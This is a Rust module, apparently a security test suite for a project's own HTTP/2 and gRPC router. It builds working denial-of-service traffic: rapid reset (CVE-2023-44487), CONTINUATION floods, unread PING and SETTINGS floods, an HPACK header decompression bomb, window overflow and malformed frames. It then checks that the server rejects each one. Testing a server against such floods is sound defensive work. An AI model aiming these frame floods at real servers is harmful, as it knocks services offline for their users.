//! HTTP/2 against itself: floods of frames that cost the sender little and the server much, on both clients' ports.
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, ensure};
use futures::FutureExt;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::timeout;

use crate::Attack;
use crate::sockets::{PATIENCE, h2, listen, say_until_closed};
use crate::target::{Seen, Target, VICTIM};

const DOORS: [&str; 2] = ["http", "grpc"];
/// "Enhance your calm" (RFC 9113, 7).
const CALM: u32 = 0xb;
const FAILED: Seen = Seen::Router("tandem_connections_failed_total{role=\"router\"");
/// How long a client may take nothing of what it is sent, and some patience.
const UNREAD: Duration = Duration::from_secs(60 + 15);

/// All of them.
pub fn attacks() -> Vec<Attack> {
    let attack = |name, seen, run| Attack { name, door: "client HTTP, gRPC", seen, run };
    let held_back = Seen::Nowhere("until it is a failed connection after 60 s, for which the full form waits");
    vec![
        attack("rapid reset", FAILED, |target| rapid_reset(target).boxed_local()),
        attack("CONTINUATION flood", FAILED, |target| continuation(target).boxed_local()),
        attack("frames out of order", FAILED, |target| out_of_order(target).boxed_local()),
        attack("PING flood, unread", held_back, |target| flood(target, ping()).boxed_local()),
        attack("SETTINGS flood, unread", held_back, |target| flood(target, settings()).boxed_local()),
        attack("headers of 1 MB in HPACK", Seen::Nowhere("431 by h2 itself; the connection stays"), |target| {
            header_bomb(target).boxed_local()
        }),
        attack("window overflow", FAILED, |target| overflow(target).boxed_local()),
    ]
}

fn ping() -> Vec<u8> {
    h2::frame(h2::PING, 0, 0, &[7; 8])
}

fn settings() -> Vec<u8> {
    h2::frame(h2::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])
}

fn head(path: &str) -> Vec<u8> {
    let key = format!("Bearer {VICTIM}");
    let pairs =
        [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"), ("authorization", &key)];
    h2::headers(&pairs)
}

/// Says all of it, and wants to be told to be calm, or the connection's end.
async fn ended(to: SocketAddr, bytes: &[u8]) -> anyhow::Result<String> {
    let answer = say_until_closed(to, &[h2::opening(&[]), bytes.to_vec()].concat()).await?;
    ensure!(answer.is_closed, "the connection stays");
    Ok(match h2::goaway(&answer.bytes) {
        Some(CALM) => "GOAWAY: enhance your calm".to_owned(),
        Some(code) => format!("GOAWAY {code}"),
        None => "closed".to_owned(),
    })
}

async fn at_both(target: &Target, bytes: &[u8]) -> anyhow::Result<String> {
    let mut how = String::new();
    for door in DOORS {
        how = ended(target.router(door)?, bytes).await.context(door)?;
    }
    Ok(how)
}

/// CVE-2023-44487.
async fn rapid_reset(target: &Target) -> anyhow::Result<String> {
    let mut bytes = Vec::new();
    for number in 0..target.count(5_000, 50_000) as u32 {
        let stream = 2 * number + 1;
        bytes.extend(h2::frame(h2::HEADERS, h2::END_HEADERS, stream, &head("/v1/completions")));
        bytes.extend(h2::frame(h2::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
    at_both(target, &bytes).await
}

/// CVE-2024-27316 and its like: a header block that never ends.
async fn continuation(target: &Target) -> anyhow::Result<String> {
    let mut bytes = h2::frame(h2::HEADERS, 0, 1, &head("/health"));
    for number in 0..target.count(2_000, 20_000) {
        let more = h2::headers(&[(&format!("x-{number}"), &"y".repeat(100))]);
        bytes.extend(h2::frame(h2::CONTINUATION, 0, 1, &more));
    }
    at_both(target, &bytes).await
}

async fn out_of_order(target: &Target) -> anyhow::Result<String> {
    let mut how = String::new();
    for bytes in [
        h2::frame(h2::DATA, 0, 0, b"x"),
        h2::frame(h2::DATA, 0, 9, b"x"),
        h2::frame(h2::HEADERS, h2::END_HEADERS, 2, &head("/health")),
        h2::frame(h2::CONTINUATION, h2::END_HEADERS, 1, &head("/health")),
        h2::frame(h2::SETTINGS, 0, 0, &[0; 5]),
        h2::frame(h2::PING, 0, 0, &[0; 7]),
        h2::frame(h2::HEADERS, h2::END_HEADERS, 1, &[0xff; 64]),
    ] {
        how = at_both(target, &bytes).await?;
    }
    Ok(how)
}

/// INITIAL_WINDOW_SIZE beyond 2^31, and a window raised beyond it.
async fn overflow(target: &Target) -> anyhow::Result<String> {
    at_both(target, &h2::frame(h2::SETTINGS, 0, 0, &[0, 4, 0xff, 0xff, 0xff, 0xff])).await?;
    let raise = h2::frame(8, 0, 0, &0x7fff_ffff_u32.to_be_bytes());
    at_both(target, &raise.repeat(2)).await
}

/// So many frames that each want an answer, of which none is read: the server must stop reading, not keep the answers.
/// In the full form it also ends such connections, as nothing is taken of what it writes.
async fn flood(target: &Target, frame: Vec<u8>) -> anyhow::Result<String> {
    let frames = frame.repeat(4096);
    let before = target.seen(FAILED).await?;
    let mut held = Vec::new();
    for door in DOORS {
        let mut stream = TcpStream::connect(target.router(door)?).await?;
        stream.write_all(&h2::opening(&[])).await?;
        let mut stopped = false;
        for _ in 0..target.count(200, 5_000) {
            if !matches!(timeout(PATIENCE, stream.write_all(&frames)).await, Ok(Ok(()))) {
                stopped = true;
                break;
            }
        }
        ensure!(stopped, "{door}: it goes on reading what it answers to nobody");
        held.push(stream);
    }
    if !target.full {
        return Ok("not read any more".to_owned());
    }
    let all_but_one = held.len() as f64 - 1.0;
    target.until_seen(FAILED, before + all_but_one, UNREAD).await.context("a connection stays")?;
    Ok("not read any more, closed after 60 s".to_owned())
}

/// Small on the wire, large when it is unpacked: one long entry of the table, named again and again (RFC 7541, 7.3).
async fn header_bomb(target: &Target) -> anyhow::Result<String> {
    let mut block = head("/health");
    // Literal with indexing, then its index: 62 is the newest entry.
    block.extend([0x40, 1, b'x', 0x7f, 0x81, 0x1e]);
    block.extend(vec![b'y'; 4096 - 128]);
    block.extend(vec![0x80 | 62; 8_000]);
    for door in DOORS {
        let bytes =
            [h2::opening(&[]), h2::frame(h2::HEADERS, h2::END_HEADERS | h2::END_STREAM, 1, &block), ping()].concat();
        let mut stream = TcpStream::connect(target.router(door)?).await?;
        stream.write_all(&bytes).await?;
        let answer = listen(&mut stream).await;
        ensure!(answer.bytes.len() > 20, "{door}: no answer");
    }
    Ok("431".to_owned())
}
